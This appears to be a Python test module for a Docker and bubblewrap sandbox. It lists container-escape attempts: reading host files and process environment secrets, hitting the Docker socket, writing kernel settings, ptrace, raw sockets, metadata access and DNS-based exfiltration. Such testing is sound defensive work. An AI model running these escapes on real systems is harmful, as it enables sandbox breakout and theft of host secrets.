"""The cases: what hostile code tries from inside, and which protections must be gone for it to succeed.

A script succeeds by printing the bait's secret or the word of `DONE`. All are Python, run by the image's own.
"""

from __future__ import annotations

from dataclasses import dataclass

DONE = "E5CAPED"

_ATTEMPT = """
import contextlib, ctypes, glob, os, socket, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def done(yes=True):
    if yes: print("E5CAPED", flush=True)
def refused(): return contextlib.suppress(OSError, ValueError, subprocess.SubprocessError)
"""


@dataclass(frozen=True, slots=True)
class Case:
    """One attempt. `without` names the protections to take out on the weak wall, `bwrap` the same where it differs.

    `by_docker` says why the weak wall is Docker's for bubblewrap too; `needs` is a file of the host that it is about.
    """

    name: str
    script: str
    without: tuple[str, ...] = ()
    bwrap: tuple[str, ...] | None = None
    peer: bool = False
    by_docker: str = ""
    needs: str = "/"

    @property
    def program(self) -> str:
        """The whole script."""
        return _ATTEMPT + self.script


CASES = (
    Case("a file of the host", """
for place in ("@FILE@", "/mnt/@BELOW@", "/workspace/../../../..@FILE@", "/proc/self/root@FILE@", "/proc/1/root@FILE@"):
    with refused(): print(open(place).read())
""", ("host folder",)),
    Case("a file through a process of the host", """
for pid in glob.glob("/proc/[0-9]*"):
    with refused(): print(open(pid + "/root@FILE@").read())
""", ("pids", "user", "capabilities")),
    Case("the environment of processes of the host", """
for pid in glob.glob("/proc/[0-9]*"):
    with refused():
        words = open(pid + "/environ").read().split(chr(0))
        print(*(word for word in words if word.startswith("REDTEAM_SECRET=")))
""", ("pids",), bwrap=("pids", "user", "capabilities")),
    Case("the engine's socket", """
for place in ("/var/run/docker.sock", "/run/docker.sock", "/tmp/docker.sock"):
    with refused(), socket.socket(socket.AF_UNIX) as engine:
        engine.connect(place)
        engine.sendall(b"GET /version HTTP/1.0\\r\\n\\r\\n")
        done(b"ApiVersion" in engine.recv(65536))
""", ("engine socket", "user")),
    Case("a setting of the kernel", """
place = "/proc/sys/vm/overcommit_memory"
with refused():
    value = open(place).read()
    with open(place, "w") as file: file.write(value)
    done()
""", ("user", "masked proc")),
    Case("the program that takes core dumps", """
place = "/proc/sys/kernel/core_pattern"
with refused():
    value = open(place).read()
    with open(place, "w") as file: file.write(value)
    done()
""", ("user", "masked proc"), needs="/proc/sys/kernel/core_pattern"),
    Case("the system request key", """
with refused():
    with open("/proc/sysrq-trigger", "w") as file: file.write("h")
    done()
""", ("user", "masked proc"), needs="/proc/sysrq-trigger"),
    Case("the kernel's memory", """
with refused(): done(open("/proc/kcore", "rb").read(4) == b"\\x7fELF")
""", ("user", "capabilities", "masked proc"), needs="/proc/kcore"),
    Case("a setting of a device", """
for flags in (0x20, 0x1020): libc.mount(None, b"/sys", None, flags, None)  # MS_REMOUNT, MS_BIND, not MS_RDONLY
for place in glob.glob("/sys/block/*/queue/read_ahead_kb") + glob.glob("/mnt/block/*/queue/read_ahead_kb"):
    with refused():
        value = open(place).read()
        with open(place, "w") as file: file.write(value)
        done()
""", ("user", "capabilities", "system calls"), bwrap=("user", "kernel folder")),
    Case("a device of the host", """
import stat
number = os.makedev(10, 237)  # loop-control: opening it does nothing
places = [folder + "/loop-control" for folder in ("/dev", "/tmp", "/dev/shm", "/workspace")]
for place in places:
    with refused(): os.mknod(place, 0o600 | stat.S_IFCHR, number)
    with refused(), open(place, "rb"): done(os.stat(place).st_rdev == number)
""", ("user", "devices"), bwrap=("user", "capabilities", "devices"), needs="/dev/loop-control"),
    Case("a file planted in the image", """
with refused():
    open("/planted", "w").close()
    done()
""", ("user", "read-only root")),
    Case("a capability", """
with refused():
    open("/tmp/mine", "w").close()
    os.chown("/tmp/mine", 12345, 12345)
    done()
""", ("user", "capabilities")),
    Case("a mount", """
done(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0)
""", ("user", "capabilities", "system calls")),
    Case("a setuid program", """
with refused():
    child = subprocess.Popen(["su", "root"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    for _ in range(100):
        words = [line.split() for line in open("/proc/%d/status" % child.pid) if line.startswith("Uid:")]
        if words and words[0][2] == "0":
            done()
            break
        time.sleep(0.01)
    child.kill()
""", ("no new privileges", "capabilities"),
         by_docker="bubblewrap sets no_new_privs itself, without an option to leave it out"),
    Case("tracing the server", """
libc.ptrace.restype = ctypes.c_long
done(libc.ptrace(0x4206, 1, None, None) == 0)
""", ("user", "capabilities")),
    Case("the server's memory", """
with refused(): done(len(open("/proc/1/maps").read()) > 0 and open("/proc/1/mem", "rb", 0) is not None)
""", ("user", "capabilities")),
    Case("a user namespace", """
done(libc.unshare(0x10000000) == 0)
""", ("system calls",), bwrap=("system calls", "user namespace")),
    Case("a key in the kernel's keyring", """
buffer = ctypes.create_string_buffer(64)
key = libc.syscall(250, 10, -4, b"user", b"redteam", 0)
if key > 0 and libc.syscall(250, 11, key, buffer, 64) > 0: print(buffer.value.decode())
""", ("system calls",), bwrap=("system calls", "user")),
    Case("a raw socket", """
with refused():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    done()
""", ("user", "capabilities", "system calls")),
    Case("a service of the host", """
for address in ("127.0.0.1", "172.17.0.1", "host.docker.internal"):
    with refused(), socket.create_connection((address, @PORT@), 3) as service: print(service.recv(100).decode())
""", ("network",)),
    Case("an abstract socket of the host", """
with refused(), socket.socket(socket.AF_UNIX) as service:
    service.connect(chr(0) + "@ABSTRACT@")
    print(service.recv(100).decode())
""", ("network",)),
    Case("the metadata service", """
with refused(), socket.create_connection(("@METADATA@", 80), 3) as service: print(service.recv(100).decode())
""", peer=True),
    Case("data sent out as a name to resolve", """
with refused(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
    udp.settimeout(3)
    question = b"\\x06stolen\\x03com\\0\\0\\x10\\0\\x01"
    udp.sendto(b"\\x12\\x34\\x01\\0\\0\\x01" + bytes(6) + question, ("@RESOLVER@", 53))
    print(udp.recv(100).decode())
""", peer=True),
    Case("shared memory of the host", """
libc.shmat.restype = ctypes.c_void_p
number = libc.shmget(@SHARED@, 64, 0)
at = libc.shmat(number, None, 0o10000) if number >= 0 else None
if at and at < 2**63: print(ctypes.string_at(at).decode())
""", ("ipc",)),
    Case("the limit on processes", """
for folder in ("/sys/fs/cgroup/pids", "/sys/fs/cgroup"):
    libc.mount(None, folder.encode(), None, 0x1020, None)
for place in ("/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/pids.max"):
    with refused():
        with open(place, "w") as file: file.write("max")
        done()
""", ("user", "capabilities", "system calls"),
         by_docker="a bubblewrap without this wall would reach the groups of its neighbours"),
    Case("an extended attribute that steers the overlay", """
os.makedirs("/workspace/pkg", exist_ok=True)
for name in ("trusted.overlay.opaque", "trusted.overlay.redirect", "security.capability"):
    with refused():
        os.setxattr("/workspace/pkg", name, b"y" if "opaque" in name else b"/")
        done(name.startswith("trusted"))
""", ("user", "capabilities"), bwrap=("user", "capabilities")),
)  # fmt: skip
